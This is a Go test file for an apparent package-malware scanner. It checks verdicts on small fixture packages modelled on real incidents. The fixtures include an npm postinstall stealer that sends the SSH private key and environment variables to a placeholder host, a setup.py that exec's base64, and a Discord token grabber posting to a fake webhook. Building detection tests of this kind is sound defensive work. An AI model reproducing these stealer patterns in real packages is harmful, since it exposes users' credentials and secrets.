package rules

import (
	"context"
	"testing"

	"github.com/sapperhq/sapper/internal/analyze"
)

// TestVerdicts runs the default rules through the engine on small inert
// packages modelled on real incidents, and on ordinary ones.
func TestVerdicts(t *testing.T) {
	rs, err := Default()
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name  string
		files []analyze.File
		want  analyze.Verdict
	}{
		{"npm stealer with postinstall", []analyze.File{
			{Path: "package.json", Kind: analyze.Manifest, Data: []byte(`{"name":"x","scripts":{"postinstall":"node index.js"}}`)},
			{Path: "index.js", Kind: analyze.JavaScript, Data: []byte(`const os = require('os'), fs = require('fs'), https = require('https');
const key = fs.readFileSync(require('path').join(os.homedir(), '.ssh', 'id_rsa'), 'utf8');
const req = https.request({ host: 'exfil.example.invalid', method: 'POST' });
req.end(JSON.stringify({ key, env: JSON.stringify(process.env) }));
`)},
		}, analyze.Malicious},
		{"pypi exec of base64 in setup.py", []analyze.File{
			{Path: "setup.py", Kind: analyze.Python, Data: []byte("import base64\nexec(base64.b64decode('dHJ1ZQ=='))\nfrom setuptools import setup\nsetup(name='x')\n")},
		}, analyze.Malicious},
		{"discord webhook grabber", []analyze.File{
			{Path: "x/__init__.py", Kind: analyze.Python, Data: []byte(`import requests, os
p = os.getenv("APPDATA") + "\\discord\\Local Storage\\leveldb"
requests.post("https://discord.com/api/webhooks/000000000000/FAKE-token-not-real", json={"t": p})
`)},
		}, analyze.Malicious},
		{"ordinary library", []analyze.File{
			{Path: "package.json", Kind: analyze.Manifest, Data: []byte(`{"name":"y","scripts":{"test":"node test.js","install":"node-gyp rebuild"}}`)},
			{Path: "index.js", Kind: analyze.JavaScript, Data: []byte("const https = require('https');\nconst { execFile } = require('child_process');\nmodule.exports = (u) => https.get(u);\n")},
		}, analyze.Benign},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res := analyze.Run(context.Background(), &analyze.Target{Name: tt.name, Files: tt.files}, rs)
			if len(res.Errors) > 0 {
				t.Errorf("errors: %v", res.Errors)
			}
			if res.Verdict != tt.want {
				t.Errorf("verdict %s (score %v), want %s; findings:", res.Verdict, res.Score, tt.want)
				for _, f := range res.Findings {
					t.Logf("  %s %s %s:%d %s", f.Severity, f.Rule, f.Location.Path, f.Location.Line, f.Snippet)
				}
			}
		})
	}
}
